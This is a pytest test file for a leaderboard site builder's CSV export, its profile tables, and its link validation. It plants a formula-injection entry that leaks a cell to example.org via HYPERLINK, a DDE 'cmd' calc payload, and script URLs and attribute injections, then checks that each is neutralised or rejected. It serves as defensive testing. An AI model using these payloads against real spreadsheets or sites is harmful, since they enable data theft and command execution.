"""The site's scores table (``data/scores.csv``), its collapse-profile tables and each entry's
provenance, built from the frozen board's regression sections plus a hostile entry whose text a
spreadsheet would run as formulas."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from collapselab.cli.main import main
from collapselab.errors import ParameterError
from collapselab.leaderboard import profile_view, scores_csv, site, standing
from collapselab.scoring import profile
from tests.entries import FROZEN_BOARD, SITE_RULES, TASK

NAMES = ["replace", "accumulate", "mix", "real-only"]
FORMULA = '=HYPERLINK("https://example.org/?leak="&A1,"open")'
HOSTILE = "spreadsheet-bait"


def _hostile(entry: dict[str, Any]) -> dict[str, Any]:
    """mix under another name and parameters, its losses 0.1% higher, its description a formula."""
    bait = copy.deepcopy(entry)
    bait.update(name=HOSTILE, description=FORMULA)
    bait["strategy"]["params"] = {**bait["strategy"]["params"], "copy": 1}
    bait["strategy"]["citation"] = "@SUM(1+1)"
    for section in bait["tasks"].values():
        for run in section["runs"]:
            run["manifest"]["strategy"].update(params=bait["strategy"]["params"], citation=bait["strategy"]["citation"])
            for record in run["records"][1:]:
                record["metrics"]["loss"] *= 1.001
    return bait


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> tuple[Path, dict[str, Any]]:
    root = tmp_path_factory.mktemp("downloads")
    subs = root / "submissions"
    subs.mkdir()
    for name in NAMES:
        entry = json.loads((FROZEN_BOARD / f"{name}.json").read_text())
        entry["tasks"] = {TASK: entry["tasks"][TASK]}
        (subs / f"{name}.json").write_text(json.dumps(entry))
        if name == "mix":
            (subs / f"{HOSTILE}.json").write_text(json.dumps(_hostile(entry)))
    board = site.build(root / "site", subs, SITE_RULES, readme="https://example.org/collapselab/README.md")
    return root / "site", board


def test_scores_csv_parses_back_with_one_row_per_entry_and_task_holding_the_boards_numbers(built):
    out, board = built
    table = pd.read_csv(out / "data" / "scores.csv", keep_default_na=False)
    assert list(table.columns) == [*scores_csv.COLUMNS, *profile.DEFINITIONS, *scores_csv.TRAILING]
    expected = {(e["name"], task) for e in board["entries"] for task in e["tasks"]}
    assert len(table) == len(expected) == len(NAMES) + 1
    assert set(zip(table["entry"], table["task"], strict=True)) == expected
    for entry in board["entries"]:
        row = table[(table["entry"] == entry["name"]) & (table["task"] == TASK)].iloc[0]
        numbers = entry["tasks"][TASK]
        assert row["track"] == entry["track"]
        assert float(row["L_G/L_0"]) == numbers["ratio"]["mean"]  # full precision, exactly
        assert float(row["synthetic_share"]) == numbers["synthetic_share"]
        if numbers["score"] is None:
            assert row["score"] == ""
        else:
            assert float(row["score"]) == numbers["score"]["mean"]
            assert float(row["ci_low"]) == numbers["score"]["ci_low"] and float(row["ci_high"]) == numbers["score"]["ci_high"]
        assert str(row["rank"]) == ("" if entry["rank"] is None else str(entry["rank"]))
        assert row["rank_band"] == ("" if entry["rank_band"] is None else standing.band_text(tuple(entry["rank_band"])))
        assert row["extra_compute"] == ("yes" if numbers["extra_compute"] else "no")
        for name in profile.DEFINITIONS:
            assert row[name] == numbers["profile"][name]["verdict"]
        for column, key in (("steps_x_replace", "steps_ratio"), ("samples_x_replace", "samples_ratio"),
                            ("examples_x_replace", "examples_ratio"), ("time_x_replace", "time_units_ratio"),
                            ("wall_seconds_per_seed", "wall_seconds")):
            value = numbers["cost"][key]
            assert (row[column] == "") if value is None else (float(row[column]) == value), column
    assert set(table["risk_increase"]) >= {profile.COLLAPSED, profile.NOT_COLLAPSED}
    assert (out / "data" / "scores.csv").read_bytes().count(b"\r\n") == len(expected) + 1


def test_scores_csv_writes_formulas_from_submissions_as_text(built):
    out, _ = built
    table = pd.read_csv(out / "data" / "scores.csv", keep_default_na=False, dtype=str)
    bait = table[table["entry"] == HOSTILE].iloc[0]
    assert bait["description"] == "'" + FORMULA  # the quote makes spreadsheets read it as text; the rest is kept
    for column in ("entry", "track", "task", "strategy", "description", *profile.DEFINITIONS):
        assert not any(cell.startswith(scores_csv.FORMULA_STARTS) for cell in table[column]), column
    for text in ("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert scores_csv.safe_text(text) == "'" + text
    assert scores_csv.safe_text("mix, 0.5") == "mix, 0.5"
    # a name no submission may have still comes out as text (the writer does not rely on the validator)
    board = {"entries": [dict(built[1]["entries"][0], name="-cmd|'/C calc'!A0", description="+1")]}
    rows = pd.read_csv(pd.io.common.StringIO(scores_csv.render(board)), keep_default_na=False, dtype=str)
    assert rows["entry"].iloc[0] == "'-cmd|'/C calc'!A0" and rows["description"].iloc[0] == "'+1"
    assert rows["score"].iloc[0] == "0.0"  # numbers are written as numbers, never quoted: a negative score stays -0.3


def test_profile_table_has_a_cell_per_definition_with_its_verdict_value_and_the_rules_once(built):
    _, board = built
    rows = [e for e in board["entries"] if TASK in e["tasks"]]
    found = profile_view.table(rows, TASK)
    assert [d["name"] for d in found["definitions"]] == list(profile.DEFINITIONS)
    assert [r["entry"] for r in found["rows"]] == [e["name"] for e in rows]
    kinds = set()
    for entry, item in zip(rows, found["rows"], strict=True):
        measured = entry["tasks"][TASK]["profile"]
        for cell in item["cells"]:
            field = measured[cell["definition"]]
            kind, mark = profile_view.MARKS[field["verdict"]]
            assert (cell["kind"], cell["mark"]) == (kind, mark)
            assert cell["text"].startswith(field["verdict"] + ": ") and cell["text"] in cell["title"]
            if field["value"] is not None and field["ci_low"] is not None:
                assert f"{field['value']:.3g} [{field['ci_low']:.3g}, {field['ci_high']:.3g}]" in cell["text"]
            kinds.add(kind)
        collapsed = [n for n in profile.DEFINITIONS if measured[n]["verdict"] == profile.COLLAPSED]
        assert item["summary"].startswith(f"collapses under {len(collapsed)} of ")
    assert kinds == {"collapsed", "not-collapsed", "not-measurable"}
    for definition in found["definitions"]:
        used = {e["tasks"][TASK]["profile"][definition["name"]]["rule"] for e in rows}
        assert sorted(definition["rules"]) == sorted(used)  # each distinct rule once
    replace = next(item for item in found["rows"] if item["entry"] == "replace")
    assert {c["definition"]: c["kind"] for c in replace["cells"]}["divergence"] == "collapsed"


def test_every_entry_carries_its_provenance_from_its_manifests(built):
    out, board = built
    for entry in board["entries"]:
        made = entry["provenance"]
        source = json.loads((out / "data" / "submissions" / f"{entry['name']}.json").read_text())
        manifests = [run["manifest"] for section in source["tasks"].values() for run in section["runs"]]
        assert made["commits"] == sorted({m["environment"]["git_commit"] for m in manifests}) and made["commits"]
        assert made["updated"] == max(m["timings"]["updated"] for m in manifests)
        assert made["task_versions"] == {TASK: source["tasks"][TASK]["version"]}
    index = (out / "index.html").read_text()
    shown = sum(len(table["rows"]) for table in site.tables(board))  # the reference rows head every table
    assert index.count('<dl class="provenance"') == shown  # on every row
    assert "@SUM(1+1)" in index  # the citation is shown (escaped HTML text, inert)
    assert 'href="https://example.org/collapselab/README.md#submit-a-strategy"' in index
    assert 'href="data/scores.csv"' in index


@pytest.mark.parametrize("readme", ["javascript:alert(1)", "data:text/html,x", 'README.md" onclick="x', ""])
def test_the_readme_link_must_be_http_or_relative(readme):
    with pytest.raises(ParameterError, match="--readme"):
        site.readme_link(readme)
    assert site.readme_link("../README.md#anything") == "../README.md"
    assert site.readme_link("https://example.org/r/README.md") == "https://example.org/r/README.md"


def test_build_command_refuses_a_script_readme_in_one_line(tmp_path, capsys):
    code = main(["leaderboard", "build", "--submissions", str(FROZEN_BOARD), "--out", str(tmp_path / "site"),
                 "--readme", "javascript:alert(1)"])
    assert code != 0 and not (tmp_path / "site").exists()
    err = capsys.readouterr().err.strip()
    assert "--readme must be an http(s) address" in err and "Traceback" not in err and len(err.splitlines()) == 1
